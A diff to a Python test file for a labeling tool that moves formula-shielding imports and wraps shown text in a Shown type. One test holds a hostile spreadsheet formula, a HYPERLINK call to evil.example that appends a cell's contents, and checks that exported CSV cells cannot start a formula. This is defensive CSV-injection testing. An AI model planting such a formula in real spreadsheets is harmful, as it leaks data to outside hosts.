@@ -9,9 +9,16 @@ from hypothesis import given
 from hypothesis import strategies as st
 from sklearn.metrics import cohen_kappa_score
 
+from tasks.core.domain.formulas import shield, unshield
 from tasks.core.domain.golden import read_golden
 from tasks.core.errors import CookbookError
-from tasks.core.labeling.golden import KEY_COLUMNS, Candidate, sample_golden, write_worksheet
+from tasks.core.labeling.golden import (
+    KEY_COLUMNS,
+    Candidate,
+    Shown,
+    sample_golden,
+    write_worksheet,
+)
 from tasks.core.labeling.ratings import (
     adjudication_list,
     import_ratings,
@@ -20,7 +27,7 @@ from tasks.core.labeling.ratings import (
     write_adjudication,
     write_golden,
 )
-from tasks.core.labeling.worksheets import read_worksheet, shield, unshield, write_csv
+from tasks.core.labeling.worksheets import read_worksheet, write_csv
 
 CANDIDATES = [
     Candidate(
@@ -78,7 +85,9 @@ def test_a_hostile_query_reaches_the_spreadsheet_as_text(tmp_path: Path) -> None
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
     pair = Candidate("q1", hostile, "", "d1")
     sheet = tmp_path / "sheet.csv"
-    write_worksheet(sheet, [pair], dimensions=["NEED"], shown={"d1": "-2+3, a 'job'\nin town"})
+    write_worksheet(
+        sheet, [pair], dimensions=["NEED"], shown=Shown({"d1": "-2+3, a 'job'\nin town"})
+    )
     with sheet.open(newline="") as lines:
         cells = list(csv.reader(lines))[1]
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
